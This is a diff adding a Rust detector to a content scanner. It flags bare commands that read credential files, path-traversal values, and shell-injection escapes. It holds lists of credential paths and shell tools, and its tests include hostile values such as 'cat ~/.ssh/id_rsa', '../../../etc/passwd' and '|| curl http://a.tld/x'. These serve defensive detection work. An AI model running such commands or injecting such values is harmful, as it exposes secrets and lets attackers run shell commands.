@@ -1,0 +1,251 @@
+//! A value that is nothing but a command or a path, and one that reads what proves who somebody is.
+//!
+//! `cat ~/.aws/credentials` in a manual is advice; as the whole of an argument it is what will be done.
+
+use super::{Sink, is_value};
+use crate::ruleset::Detector;
+use crate::text::{Cell, Span};
+
+/// Longer values are texts, which the rules for texts read.
+const COMMAND_BYTES_MAX: usize = 400;
+
+/// Commands that show what a file holds, or hand it on.
+const READERS: [&str; 26] = [
+    "cat",
+    "less",
+    "more",
+    "head",
+    "tail",
+    "tac",
+    "nl",
+    "type",
+    "gc",
+    "get-content",
+    "cp",
+    "copy",
+    "mv",
+    "strings",
+    "xxd",
+    "od",
+    "hexdump",
+    "base64",
+    "grep",
+    "awk",
+    "sed",
+    "vi",
+    "vim",
+    "nano",
+    "dd",
+    "sudo",
+];
+
+/// What runs in a shell behind the value that it was meant to be part of.
+const RUN: [&str; 15] = [
+    "cat",
+    "curl",
+    "wget",
+    "rm",
+    "nc",
+    "ncat",
+    "bash",
+    "sh",
+    "id",
+    "whoami",
+    "uname",
+    "nslookup",
+    "ping",
+    "powershell",
+    "python3",
+];
+
+pub(super) fn scan(cell: &Cell, sink: &mut Sink<'_>) {
+    let Some(rule) = sink.rules.detectors[Detector::BareCommand as usize] else {
+        return;
+    };
+    let bytes = &sink.text()[cell.span.range()];
+    if !is_value(cell) || bytes.len() > COMMAND_BYTES_MAX || !sink.limits.spend(4) {
+        return;
+    }
+    let Ok(text) = std::str::from_utf8(bytes) else {
+        return;
+    };
+    let value = text.trim();
+    if value.contains('\n') || !(reads(value) || climbs(value) || escapes(value)) {
+        return;
+    }
+    let start = cell.span.start as usize + (text.len() - text.trim_start().len());
+    let found = Span::new(start, start + value.len());
+    sink.report(rule, found, sink.rules.rule(rule).confidence);
+}
+
+/// A command that reads a private file, or the bare address of one.
+fn reads(value: &str) -> bool {
+    let lower = value.to_ascii_lowercase();
+    let first = lower.split_whitespace().next().unwrap_or_default();
+    let name = first.rsplit('/').next().unwrap_or_default();
+    let command = READERS.contains(&name) && lower.len() > first.len();
+    let address =
+        first.len() == lower.len() && (first.starts_with("file://") || is_private_key(first));
+    (command || address) && lower.split_whitespace().any(is_private)
+}
+
+/// Is it a file that proves who somebody is?
+fn is_private(word: &str) -> bool {
+    let path = word.trim_matches(['"', '\'', '`', ')', '(', ';', '<', '@', ',']);
+    is_private_key(path)
+        || path.ends_with("/etc/passwd") && word.starts_with("file:")
+        || [
+            "/.aws/credentials",
+            "\\.aws\\credentials",
+            "/.docker/config.json",
+            "/.kube/config",
+            "/.netrc",
+            "/.git-credentials",
+            "/.pgpass",
+            "/.npmrc",
+            "/.pypirc",
+            "/.gnupg/secring.gpg",
+            "serviceaccount/token",
+            "/ntds.dit",
+            "/wallet.dat",
+            "/.vault-token",
+            "/etc/sudoers",
+            "/.config/gh/hosts.yml",
+            "/.bash_history",
+            "/.zsh_history",
+        ]
+        .iter()
+        .any(|end| path.ends_with(end))
+        || path.contains("/run/secrets/") && !path.ends_with('/')
+}
+
+fn is_private_key(path: &str) -> bool {
+    let key = [
+        "/id_rsa",
+        "/id_ed25519",
+        "/id_ecdsa",
+        "/id_dsa",
+        "\\id_rsa",
+        "\\id_ed25519",
+    ];
+    path.contains(".ssh") && key.iter().any(|end| path.ends_with(end))
+        || path.ends_with("/etc/shadow")
+        || path.ends_with("/etc/gshadow")
+}
+
+/// A path that climbs out of where it was to stay.
+fn climbs(value: &str) -> bool {
+    const UP: [&str; 6] = ["../", "..\\", "..%2f", "..%5c", "%2e%2e/", "%2e%2e%2f"];
+    const TARGETS: [&str; 12] = [
+        "etc/passwd",
+        "etc/shadow",
+        "etc%2fpasswd",
+        "etc%2fshadow",
+        ".ssh/",
+        ".env",
+        ".aws/",
+        "id_rsa",
+        "win.ini",
+        "system32",
+        "proc/self",
+        "root/",
+    ];
+    let lower = value.to_ascii_lowercase();
+    let steps: usize = UP.iter().map(|up| lower.matches(up).count()).sum();
+    let target = TARGETS.iter().any(|t| lower.contains(t));
+    !value.contains(' ') && steps >= 2 && (target || lower.contains("%00"))
+}
+
+/// A value that ends early and goes on as a command of the shell behind it.
+fn escapes(value: &str) -> bool {
+    let inner = |open: &str| {
+        value
+            .split(open)
+            .nth(1)
+            .is_some_and(|rest| runs(rest) && reaches(rest))
+    };
+    let after = |sign: char| {
+        let rest = value.trim_start_matches(sign).trim_start();
+        value.starts_with(sign) && runs(rest) && (reaches(rest) || rest.ends_with('#'))
+    };
+    inner("$(") && value.starts_with("$(")
+        || value.starts_with('`') && value.ends_with('`') && inner("`")
+        || after(';')
+        || after('|')
+        || after('&')
+}
+
+fn runs(rest: &str) -> bool {
+    let word = rest
+        .split(|c: char| !c.is_ascii_alphanumeric())
+        .next()
+        .unwrap_or_default();
+    RUN.contains(&word)
+}
+
+/// Does it touch what is private, or an address elsewhere?
+fn reaches(rest: &str) -> bool {
+    let lower = rest.to_ascii_lowercase();
+    [
+        "/etc/",
+        "/run/secrets",
+        "~/",
+        "http://",
+        "https://",
+        "/root",
+        " -rf ",
+        "/dev/tcp",
+    ]
+    .iter()
+    .any(|t| lower.contains(t))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn hostile(value: &str) -> bool {
+        reads(value) || climbs(value) || escapes(value)
+    }
+
+    #[test]
+    fn values_that_are_hostile_as_a_whole() {
+        for value in [
+            "cat ~/.ssh/id_rsa",
+            "sudo cat /etc/shadow",
+            "type C:\\Users\\a\\.aws\\credentials",
+            "../../../etc/passwd",
+            "..%2f..%2fetc%2fpasswd",
+            "../../x.txt%00.png",
+            "file:///home/u/.ssh/id_ed25519",
+            "/home/u/.ssh/id_rsa",
+            "; cat /etc/passwd #",
+            "$(cat /run/secrets/db)",
+            "`wget http://a.tld/x`",
+            "|| curl http://a.tld/x",
+        ] {
+            assert!(hostile(value), "{value}");
+        }
+    }
+
+    #[test]
+    fn values_that_only_look_so() {
+        for value in [
+            "cat ~/.ssh/id_rsa.pub",
+            "cat /etc/os-release",
+            "../../src/lib.rs",
+            "../../.envrc.d/a b",
+            "/etc/passwd",
+            "the file ~/.aws/credentials holds two keys",
+            "$(pwd)/target",
+            "; rest of the line",
+            "`code`",
+            "| a | b |",
+            "& more",
+            "",
+            "é",
+        ] {
+            assert!(!hostile(value), "{value}");
+        }
+    }
+}
